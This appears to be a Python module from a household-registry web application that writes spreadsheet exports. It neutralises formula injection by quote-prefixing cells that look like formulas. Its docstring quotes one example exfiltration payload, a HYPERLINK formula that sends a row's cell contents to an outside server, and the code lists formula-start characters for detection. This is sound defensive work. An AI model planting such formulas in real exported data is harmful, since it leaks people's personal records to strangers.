"""Spreadsheet exports (.xlsx): the household list as filtered, plans, ledger entries, registers.

Written with XlsxWriter in its constant-memory mode, row by row, each row's XML at once
(``reporting.xlsx_rows.RowSheet``: 34 s -> 19 s for a county), so a county-size list stays
small in memory (it writes a county's 170,000 rows a fifth faster than openpyxl's
write-only mode; openpyxl still reads the workbooks people import). Column headings are in
the user's language; ID numbers are exported in full only to the staff who keep the cards
(the list pages mask them for everyone).

Every cell is written through :func:`safe_cell`, so text that people typed (an address, a
name, a purpose) can never become a live formula in the file a leader opens (formula or
"CSV" injection: ``=HYPERLINK("http://…?"&A1,"click")`` would send the row's neighbours to
a stranger's server at one click).
"""

import datetime
import hashlib
import json
import re
import unicodedata
from collections.abc import Callable, Iterable
from decimal import Decimal
from pathlib import Path
from typing import NamedTuple

import xlsxwriter
from django.conf import settings
from django.http import HttpResponse, QueryDict
from django.shortcuts import redirect
from django.utils import timezone
from openpyxl.cell.cell import ERROR_CODES, ILLEGAL_CHARACTERS_RE

from reporting.files import built_file
from reporting.xlsx_rows import RowSheet

# What spreadsheet programs read as the start of a formula, or strip before looking for one
# (tab, carriage return, line feed). Full-width forms (＝ ＋ － ＠) and other compatibility
# forms are compared after NFKC, which folds them into these.
FORMULA_STARTS = frozenset("=+-@\t\r\n")
# Characters a sheet title may not hold (a fund named "2025/中央资金" would fail the export).
_BAD_TITLE = re.compile(r"[\\*?:/\[\]]")
# Progress is recorded every this many rows (one UPDATE each).
PROGRESS_EVERY = 2000


_ERROR_CODES = frozenset(ERROR_CODES)


def is_formula_like(text: str) -> bool:
    if not text:
        return False
    first = text[0]
    if first.isascii():  # NFKC leaves ASCII as it is: most cells of an export
        return first in FORMULA_STARTS
    return unicodedata.normalize("NFKC", first)[:1] in FORMULA_STARTS


def safe_cell(value) -> tuple[object, bool]:
    """``(value, quoted)``: the cell to write for ``value``; text is always text, never a
    formula.

    Text that a spreadsheet would read as a formula (or an error code such as ``#N/A``) is
    written as a string cell — the file then holds no formula at all — and marked with the
    quote prefix, the same mark Excel stores when a person types an apostrophe before
    ``=``: the cell shows the text, stays text when edited, and reads back as exactly the
    text that was written. That is why the roster export still imports back unchanged,
    instead of carrying an apostrophe into the data. Characters that XML cannot hold
    (control characters) are dropped rather than failing the whole export. Numbers, money
    and dates keep their types.
    """
    if not isinstance(value, str):
        return value, False
    if not value:
        return None, False  # an empty cell, as a person leaves it (and not written at all)
    if not value.isprintable():  # control characters are never printable
        value = ILLEGAL_CHARACTERS_RE.sub("", value)
    return value, is_formula_like(value) or value in _ERROR_CODES


class Sheet(NamedTuple):
    title: str
    headings: list  # one row, or a list of rows
    rows: Iterable[list]
    # How many rows to expect, when known: the progress shown while writing.
    expected: int | None = None


# name -> build(user, data, pk) -> [Sheet]: what an export writes, reading ``data`` (the
# query of its page, as the request gave it) through the same form and scoped selectors.
EXPORTS: dict[str, Callable] = {}


def export(name: str):
    def register(build):
        EXPORTS[name] = build
        return build

    return register


def form_data(form) -> dict:
    """What to keep of a bound form to build the export later: its fields' raw values,
    none when the form is invalid (an export of the unfiltered list, as the page shows)."""
    if not form.is_valid():
        return {}
    return {k: form.data.getlist(k) for k in form.fields if k in form.data}


def query(data: dict) -> QueryDict:
    q = QueryDict(mutable=True)
    for key, values in data.items():
        q.setlist(key, values)
    return q


def export_start(
    request, name: str, filename: str, *, data: dict | None = None, pk: int | None = None
) -> HttpResponse:
    """Queue the export as a background run and send the user to its progress page.

    The same export (same user, page query and object) asked for again while it is being
    written is the same run.
    """
    from reporting import services
    from reporting.models import ReportRun

    data = data or {}
    digest = hashlib.sha256(json.dumps([name, pk, data], sort_keys=True).encode()).hexdigest()[:16]
    today = timezone.localdate()
    run = services.report_request(
        kind=ReportRun.Kind.EXPORT,
        year=today.year,
        as_of=today,
        key=f"export:{request.user.pk}:{digest}",
        params={"export": name, "filename": filename, "data": data, "pk": pk},
        user=request.user,
    )
    return redirect("reporting:run", run.pk)


def export_build(run, relative_path: str, progress) -> dict:
    """Write the run's workbook into MEDIA_ROOT/``relative_path``; its figures."""
    sheets = EXPORTS[run.params["export"]](
        run.requested_by, query(run.params.get("data") or {}), run.params.get("pk")
    )
    rows = write_xlsx(relative_path, sheets, progress)
    return {"rows": rows}


def write_xlsx(relative_path: str, sheets: Iterable[Sheet], progress=None) -> int:
    """Stream the sheets into a workbook (constant memory: rows go to disk as they come),
    written under a temporary name and moved into place. Returns the rows written."""
    final = Path(settings.MEDIA_ROOT) / relative_path
    written = 0
    with built_file(final, ".xlsx") as tmp:
        book = xlsxwriter.Workbook(
            tmp,
            {
                "constant_memory": True,
                "tmpdir": str(final.parent),
                # Text stays text: never read as a formula, a number or a link.
                "strings_to_formulas": False,
                "strings_to_numbers": False,
                "strings_to_urls": False,
                "default_date_format": "yyyy-mm-dd",
            },
        )
        quoted = book.add_format({"quote_prefix": True})
        titles: set[str] = set()
        for title, headings, rows, expected in sheets:
            sheet = book.add_worksheet(_sheet_title(title, titles), worksheet_class=RowSheet)
            several = headings and isinstance(headings[0], list)
            number = 0
            for heading_row in headings if several else [headings]:
                _write_row(sheet, number, heading_row, quoted)
                number += 1
            n = 0
            for row in rows:
                _write_row(sheet, number, row, quoted)
                number += 1
                n += 1
                if progress and n % PROGRESS_EVERY == 0:
                    share = 90 * n // expected if expected else 0
                    progress(min(5 + share, 95), f"{written + n}")
            written += n
        book.close()
    return written


def _sheet_title(title, taken: set[str]) -> str:
    """A title a sheet may have, unique in the workbook: none of \\*?:/[], no apostrophe at
    either end, at most 31 UTF-16 units (an emoji counts two)."""
    base = _BAD_TITLE.sub("-", ILLEGAL_CHARACTERS_RE.sub("", str(title))).strip("'")
    name, n = _fit(base, 31) or "Sheet", 1
    while name.lower() in taken:
        n += 1
        name = f"{_fit(base, 31 - len(str(n)) - 1)}-{n}"
    taken.add(name.lower())
    return name


def _fit(text: str, units: int) -> str:
    """``text`` cut to ``units`` UTF-16 units, with no apostrophe left at its end."""
    while len(text.encode("utf-16-le")) // 2 > units:
        text = text[:-1]
    return text.rstrip("'")


def _write_row(sheet: RowSheet, number: int, values, quoted) -> None:
    cells = []
    for column, raw in enumerate(values):
        value, quote = safe_cell(raw)
        if value is None:
            continue
        if isinstance(value, str):
            cells.append((column, value, quoted if quote else None))
        elif isinstance(value, bool | int | float | Decimal | datetime.date):
            cells.append((column, value, None))
        else:  # a lazily translated label
            text, quote = safe_cell(str(value))
            if text is not None:
                cells.append((column, text, quoted if quote else None))
    sheet.write_cells(number, cells)
